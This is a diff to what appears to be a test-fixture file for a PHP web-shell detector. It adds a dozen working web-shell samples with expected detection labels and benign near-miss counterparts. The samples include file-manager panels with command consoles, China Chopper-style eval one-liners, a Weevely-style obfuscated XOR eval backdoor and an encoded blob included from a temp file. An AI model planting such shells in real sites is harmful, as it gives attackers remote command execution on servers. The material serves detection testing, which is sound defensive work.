@@ -149,6 +149,36 @@ V["indox_tools_menu"] = (
 V["alfa_like_globals"] = (
     "<?php\n$GLOBALS['__ZETA_SHELL_CODE'] = 'JGM9JF9QT1NUWydjJ107ZWNobyBzaGVsbF9leGVjKCRjKTs=';\n$GLOBALS['__ZETA_VERSION'] = '2.3';\nfunction __zeta_run() { eval(base64_decode($GLOBALS['__ZETA_SHELL_CODE'])); }\nfunction __zeta_files($d) { foreach (scandir($d) as $e) echo \"<tr><td>$e</td><td>\" . substr(sprintf('%o', fileperms(\"$d/$e\")), -4) . '</td></tr>'; }\nfunction __zeta_up($d) { return move_uploaded_file($_FILES['f']['tmp_name'], $d . '/' . $_FILES['f']['name']); }\nif (isset($_POST['c'])) __zeta_run();\n__zeta_files(isset($_POST['d']) ? $_POST['d'] : getcwd());\n"
 )
+V["closure_actions"] = (
+    "<?php\n$here = isset($_POST['where']) ? $_POST['where'] : getcwd();\n$actions = array(\n    'files' => function ($dir) { foreach (scandir($dir) as $f) { echo '<tr><td>' . $f . '</td><td>' . decoct(fileperms(\"$dir/$f\") & 0777) . '</td></tr>'; } },\n    'remove' => function ($dir) { return unlink($dir . '/' . $_POST['name']); },\n    'rename' => function ($dir) { return rename($dir . '/' . $_POST['name'], $dir . '/' . $_POST['newname']); },\n    'upload' => function ($dir) { return move_uploaded_file($_FILES['data']['tmp_name'], $dir . '/' . $_FILES['data']['name']); },\n    'console' => function ($dir) { chdir($dir); echo '<pre>' . htmlspecialchars(shell_exec($_POST['line'])) . '</pre>'; },\n    'info' => function ($dir) { echo php_uname() . ' / ' . ini_get('disable_functions'); },\n);\n$a = isset($_POST['do']) ? $_POST['do'] : 'files';\nif (isset($actions[$a])) { $actions[$a]($here); }\n"
+)
+V["class_fm"] = (
+    "<?php\nclass Tool {\n    private $dir;\n    public function __construct($d) { $this->dir = $d; }\n    public function ls() { return scandir($this->dir); }\n    public function rm($n) { return unlink($this->dir . '/' . $n); }\n    public function mv($a, $b) { return rename($this->dir . '/' . $a, $this->dir . '/' . $b); }\n    public function up() { return move_uploaded_file($_FILES['f']['tmp_name'], $this->dir . '/' . $_FILES['f']['name']); }\n    public function run($c) { return shell_exec($c); }\n}\n$t = new Tool(isset($_GET['d']) ? $_GET['d'] : getcwd());\n$m = isset($_GET['m']) ? $_GET['m'] : 'ls';\n$r = $t->$m(isset($_REQUEST['a']) ? $_REQUEST['a'] : null, isset($_REQUEST['b']) ? $_REQUEST['b'] : null);\necho '<pre>' . htmlspecialchars(print_r($r, true)) . '</pre>';\n"
+)
+V["nested_param_panel"] = (
+    "<?php\n$fm = isset($_POST['fm']) ? $_POST['fm'] : array();\n$path = !empty($fm['path']) ? $fm['path'] : getcwd();\nif (!empty($fm['cmd'])) { $res = array(); exec($fm['cmd'], $res); echo '<pre>' . implode(\"\\n\", $res) . '</pre>'; }\nif (!empty($fm['del'])) { unlink($path . '/' . $fm['del']); }\nif (!empty($fm['chmod'])) { chmod($path . '/' . $fm['target'], octdec($fm['chmod'])); }\nif (!empty($_FILES['fm_up']['name'])) { move_uploaded_file($_FILES['fm_up']['tmp_name'], $path . '/' . $_FILES['fm_up']['name']); }\n$h = opendir($path);\nwhile (($e = readdir($h)) !== false) { echo '<form method=\"post\" style=\"display:inline\"><input type=\"hidden\" name=\"fm[path]\" value=\"' . htmlspecialchars(\"$path/$e\") . '\"><button>' . htmlspecialchars($e) . '</button></form><br>'; }\n?>\n<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"fm_up\"><input type=\"hidden\" name=\"fm[path]\" value=\"<?php echo htmlspecialchars($path); ?>\"><input type=\"submit\"></form>\n<form method=\"post\">$ <input name=\"fm[cmd]\"><input type=\"hidden\" name=\"fm[path]\" value=\"<?php echo htmlspecialchars($path); ?>\"></form>\n"
+)
+V["upload_fullpath_list"] = (
+    "<?php\necho '<b>' . get_current_user() . '@' . gethostname() . '</b> ' . getcwd() . '<hr>';\nif (isset($_FILES['doc'])) {\n    $dest = $_POST['saveas'];\n    echo move_uploaded_file($_FILES['doc']['tmp_name'], $dest) ? \"stored at $dest\" : 'no';\n}\nforeach (scandir(isset($_GET['in']) ? $_GET['in'] : '.') as $e) { echo \"$e<br>\"; }\n?>\n<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"doc\"><input name=\"saveas\" size=\"60\"><button>ok</button></form>\n"
+)
+V["session_json_terminal"] = (
+    "<?php\nsession_start();\nif (!isset($_SESSION['cwd'])) $_SESSION['cwd'] = getcwd();\nif ($_SERVER['REQUEST_METHOD'] == 'POST') {\n    $req = json_decode(file_get_contents('php://input'), true);\n    chdir($_SESSION['cwd']);\n    $spec = array(1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n    $proc = proc_open($req['c'], $spec, $pipes);\n    $o = stream_get_contents($pipes[1]); $e = stream_get_contents($pipes[2]);\n    proc_close($proc);\n    if (preg_match('/^cd\\s+(.+)$/', $req['c'], $m) && @chdir($m[1])) { $_SESSION['cwd'] = getcwd(); }\n    echo json_encode(array('o' => $o, 'e' => $e, 'p' => $_SESSION['cwd']));\n    exit;\n}\n"
+)
+V["weevely_real_shape"] = (
+    "<?php\n$W=str_replace('r','','crreatre_rfunrction');\n$a='$k=\"2f4e\";$kh=\"a9d1\";$kf=\"0c7b\";$p=\"Qz1\";functrion x($t,$k){$c=strlen($k);$l=strlen($t);$o=\"\";';\n$b='for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t{$i}^$k{$j};}}return $o;}if(@prreg_match(';\n$c='\"/$kh(.+)$kf/\",@file_rget_contents(\"php://input\"),$m)==1){@ob_start();@evral(@gzuncompress(@x(@base64_decode($m[1]),$k)));';\n$d='$o=@ob_get_contents();@ob_end_clean();$r=@base64_encode(@x(@gzcompress($o),$k));print(\"$p$kh$r$kf\");}';\n$x=str_replace('r','',$a.$b.$c.$d);\n$f=$W('',$x);$f();\n"
+)
+V["chopper_c3"] = "<?php foreach ($_POST as $k => $v) { @eval($v); } ?>\n"
+V["chopper_c4"] = "<?php @extract($_REQUEST); @die($ctime($atime)); ?>\n"
+V["chopper_c5"] = "<?php $c = $_POST; @array_walk($c, function ($v) { eval($v); }); ?>\n"
+V["wrap_c_tmpfile"] = (
+    "<?php $t = tmpfile(); fwrite($t, gzinflate(base64_decode('fVNdS8MwFH3vr7iMYlIY1reB3eaTgiAo6NuQEpNbG0yTkqROEf+7SdbNj7n1oZBz7z3nfs4v+raHLG/RIixAOoee5vXd7f3DiqwjSh4LuIA/EJzDM3q+FrSospxxL412IZ5Zy95pBuEjjVToCCyW0Aw6eQDNhbQFfEBjLDLeAnWc6YCNBuYgb6IdeWuAzL1dzr1YEjgNePiReRmeW0ggN9zTqNOj7RydRJYybyYFnMDZbDYrvmPKwEUq+ITP6SY9i515xQP5WfSD1TBoJfVLQiNTmRIZO6FZF3tT/SBM0FHCjc8xwin8b8T1nuDQK8PEccFYY71xRFHHVoXpXl3fXN6viGCekccV8V1fHxD/47mXAg9jN+pQ0bzdjbbajrS3mIbX+k65HrlkirfMOupaVKrGN+S7/QvNj3LjFFPkt7TUjTmgm6TCXtdD6naKhxKirNSyDptLiZCOPSmst9GObMpK+7x3CcL8PoP4Djcw7niVyQboGDEewypnMfMP+AnQdGdRKPsC'))); include stream_get_meta_data($t)['uri'];\n"
+)
+V["indo_translated_panel"] = (
+    "<?php\n$jalur = isset($_GET['jalur']) ? $_GET['jalur'] : getcwd();\necho '<title>Pengelola</title><div>Sistem: ' . php_uname() . '</div><div>Pengguna: ' . get_current_user() . '</div>';\nif (isset($_POST['jalankan'])) { echo '<pre>' . shell_exec($_POST['jalankan']) . '</pre>'; }\nif (isset($_GET['hapus'])) { unlink($_GET['hapus']) ? print('Terhapus') : print('Gagal'); }\nif (isset($_POST['lama'], $_POST['baru'])) { rename($_POST['lama'], $_POST['baru']); }\nif (isset($_FILES['berkas'])) { copy($_FILES['berkas']['tmp_name'], $jalur . '/' . $_FILES['berkas']['name']); }\nforeach (scandir($jalur) as $b) { echo \"<a href='?jalur=$jalur/$b'>$b</a> | <a href='?hapus=$jalur/$b'>hapus</a><br>\"; }\necho '<form method=post>Perintah: <input name=jalankan><input type=submit value=Jalankan></form>';\n"
+)
+V["ls_via_shell"] = (
+    "<?php\n$dir = isset($_REQUEST['dir']) ? $_REQUEST['dir'] : '.';\n$cmd = isset($_REQUEST['cmd']) ? $_REQUEST['cmd'] : 'ls -la ' . escapeshellarg($dir);\necho '<h4>' . htmlspecialchars(php_uname()) . '</h4><pre>' . htmlspecialchars(shell_exec($cmd)) . '</pre>';\nif (!empty($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], $dir . '/' . $_FILES['up']['name']); }\n?>\n<form method=\"post\" enctype=\"multipart/form-data\"><input name=\"dir\" value=\"<?php echo htmlspecialchars($dir); ?>\"><input name=\"cmd\"><input type=\"file\" name=\"up\"><input type=\"submit\"></form>\n"
+)
 
 NEAR: list[tuple[str, str]] = [
     (
@@ -186,6 +216,22 @@ NEAR: list[tuple[str, str]] = [
     (
         "SPAMGEAR_FAMILY_Weevely",
         "<?php\n// template helpers: escaped translations rendered through configurable callables\n$render = $cfg['render'];\n$esc = 'htmlspecialchars';\n$t = 'gettext';\necho $render('', $esc($t('Welcome back')));\n$hook = $cfg['after'];\n$hook();\n$b = base64_decode($cfg['logo']);\n",
+    ),
+    (
+        "SPAMGEAR_FAMILY_ChinaChopper",
+        "<?php\n// form handler: trims every posted field, walks them through a validator, extracts settings\nforeach ($_POST as $key => $value) { $clean[$key] = trim($value); }\narray_walk($_POST, function ($v) { validate_field($v); });\n$opts = $_GET;\nextract($_GET); echo htmlspecialchars($name);\n",
+    ),
+    (
+        "SPAMGEAR_FAMILY_DecodedBlobTempInclude",
+        "<?php\n// caches a decoded image and includes the page template\n$fh = fopen($cache . '/logo.png', 'wb');\nfwrite($fh, base64_decode($logo));\nfclose($fh);\n$meta = stream_get_meta_data($fh);\ninclude __DIR__ . '/template.php';\n",
+    ),
+    (
+        "SPAMGEAR_SHELLUI_RequestMethodToolbox",
+        "<?php\nclass MediaManager {\n    private $dir = '/srv/media';\n    public function upload() { return move_uploaded_file($_FILES['m']['tmp_name'], $this->dir . '/' . md5(uniqid()) . '.jpg'); }\n    public function delete() { return unlink($this->dir . '/' . basename($_POST['name'])); }\n    public function rename() { return rename($this->dir . '/' . basename($_POST['from']), $this->dir . '/' . basename($_POST['to'])); }\n    public function listing() { return scandir($this->dir); }\n    public function thumb($name) { $cmd = 'convert ' . escapeshellarg($this->dir . '/' . $name) . ' -resize 120 ' . escapeshellarg($this->dir . '/t/' . $name); exec($cmd, $out); return $out; }\n}\n$action = isset($_GET['action']) && in_array($_GET['action'], array('upload', 'delete', 'rename', 'listing'), true) ? $_GET['action'] : 'listing';\n$mm = new MediaManager();\necho json_encode($mm->$action());\n",
+    ),
+    (
+        "SPAMGEAR_TOOLKIT_UploadToInputPath",
+        "<?php\n// avatar upload: the posted user id is validated and the file gets a generated name\n$uid = (int) $_POST['uid'];\n$target = AVATAR_DIR . '/' . $uid . '-' . bin2hex(random_bytes(4)) . '.png';\nmove_uploaded_file($_FILES['avatar']['tmp_name'], $target);\n",
     ),
 ]
 
@@ -226,6 +272,18 @@ _EXPECT: list[tuple[str, str]] = [
     ("wrap_b_strrev_var", "SPAMGEAR_FAMILY_VarDecoderWrappedKit"),
     ("indox_tools_menu", "SPAMGEAR_FAMILY_ExecFallbackOfInput"),
     ("alfa_like_globals", "SPAMGEAR_OBFUSC_EvalDecoder"),
+    ("closure_actions", "SPAMGEAR_SHELLUI_CommandFileManager"),
+    ("class_fm", "SPAMGEAR_SHELLUI_RequestMethodToolbox"),
+    ("nested_param_panel", "SPAMGEAR_SHELLUI_UploadListExecPanel"),
+    ("upload_fullpath_list", "SPAMGEAR_TOOLKIT_UploadToInputPath"),
+    ("session_json_terminal", "SPAMGEAR_FAMILY_P0wny"),
+    ("weevely_real_shape", "SPAMGEAR_OBFUSC_JunkLiteralLambda"),
+    ("chopper_c3", "SPAMGEAR_FAMILY_ChinaChopper"),
+    ("chopper_c4", "SPAMGEAR_FAMILY_ChinaChopper"),
+    ("chopper_c5", "SPAMGEAR_FAMILY_ChinaChopper"),
+    ("wrap_c_tmpfile", "SPAMGEAR_FAMILY_DecodedBlobTempInclude"),
+    ("indo_translated_panel", "SPAMGEAR_SHELLUI_UploadListExecPanel"),
+    ("ls_via_shell", "SPAMGEAR_UI_CommandVarConsole"),
 ]
 
 CASES: list[tuple[str, bytes, bool]] = []
